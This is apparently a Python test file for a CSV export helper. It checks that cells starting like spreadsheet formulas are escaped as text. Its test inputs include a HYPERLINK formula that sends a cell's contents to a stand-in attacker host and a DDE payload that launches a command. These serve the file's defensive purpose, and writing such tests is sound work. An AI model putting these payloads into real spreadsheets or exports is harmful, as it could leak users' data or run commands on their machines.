"""CSV exports: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

from amanah.core.exports import csv_response


def _read(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_a_cell_that_starts_like_a_formula_is_written_as_text():
    typed = [
        '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        "+62 812 000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ]
    response = csv_response("x.csv", ["nama", "=header"], [[t, t] for t in typed])
    header, *rows = _read(response)
    assert header == ["nama", "'=header"]
    assert [row[0] for row in rows] == ["'" + t for t in typed]


def test_ordinary_cells_and_numbers_are_written_as_they_are():
    rows = [["Siti Aminah", -5, 3.5, None, "", "a=b", "2026-11-23T10:00:00+07:00"]]
    (row,) = _read(csv_response("x.csv", ["a"] * 7, rows))[1:]
    assert row == ["Siti Aminah", "-5", "3.5", "", "", "a=b", "2026-11-23T10:00:00+07:00"]
